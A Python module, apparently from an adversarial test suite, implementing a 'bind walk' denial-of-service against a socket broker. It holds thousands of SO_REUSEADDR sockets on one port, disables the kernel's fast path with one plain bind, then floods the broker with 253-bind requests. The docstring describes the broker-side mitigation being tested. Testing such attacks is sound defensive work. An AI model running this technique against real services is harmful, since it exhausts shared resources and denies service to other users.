"""Make each bind of the broker walk a long list in the kernel.

The processes hold tens of thousands of sockets that are bound to one port with SO_REUSEADDR. One more bind without this
option, closed at once, ends the kernel's short cut for the port. From then on, each bind to the port compares its
address with all of the sockets. A request for 253 such binds occupied the only thread of the broker for a second. Now a
user's slow binds run in a thread of this user, and the broker cuts a batch when its time is up.
"""

from __future__ import annotations

import socket
import time

from nsbroker import SocketSpec
from nsbroker.wire import OpenReply, OpenRequest

from ..attack import Attack, Orders, Target
from .asking import Stubborn, encoded

PORT = 5000
HELD, HELD_BRIEFLY = 18_000, 1_000
AT_ONCE = 250
BINDS = 253
HOLD_S = 60
_PAUSE_S = 0.02
REUSE = ((socket.SOL_SOCKET, socket.SO_REUSEADDR, 1),)


def bound(namespace: str, host: str, *, reuses: bool = True) -> SocketSpec:
    """Describe a TCP socket on the port."""
    options = REUSE if reuses else ()
    return SocketSpec(namespace, socket.AF_INET, socket.SOCK_STREAM, bind=(host, PORT), options=options)


def walks(namespace: str) -> bytes:
    """Return a request of which each bind walks the list."""
    return encoded(OpenRequest(1, (bound(namespace, "0.0.0.0"),) * BINDS))


def hold(client: Stubborn, target: Target, first: int, count: int) -> None:
    """Hold so many sockets with addresses of their own, or as many as the broker makes in `HOLD_S`."""
    end = time.monotonic() + HOLD_S
    for start in range(first, first + count, AT_ONCE):
        hosts = [f"127.{1 + (i >> 16)}.{i >> 8 & 255}.{i & 255}" for i in range(start, start + AT_ONCE)]
        request = OpenRequest(1, tuple(bound(target.namespace, host) for host in hosts))
        while time.monotonic() < end and not isinstance(client.ask(request, keep=True), OpenReply):
            time.sleep(_PAUSE_S)  # the broker refuses it for now


def end_short_cut(client: Stubborn, target: Target) -> None:
    """Bind once without the option."""
    client.ask(OpenRequest(1, (bound(target.namespace, "127.255.0.1", reuses=False),)))


def attack(target: Target, number: int, orders: Orders) -> None:
    count = HELD_BRIEFLY if target.is_brief else HELD
    # Another connection, because the broker closes the walking one if its replies come too late.
    with Stubborn(target.path) as holder, Stubborn(target.path) as walker:
        hold(holder, target, number * count, count)
        orders.holds(number, len(holder.fds))
        if number == 0:
            orders.wait_for_others(number)
            end_short_cut(walker, target)
        orders.is_ready(number)
        packet = walks(target.namespace)
        while orders.goes_on():
            if isinstance(walker.ask(packet), OpenReply):
                orders.has_done(number)


BIND_WALK = Attack("bind walk", __doc__ or "", attack, 3, "requests of 253 binds", "bound sockets")
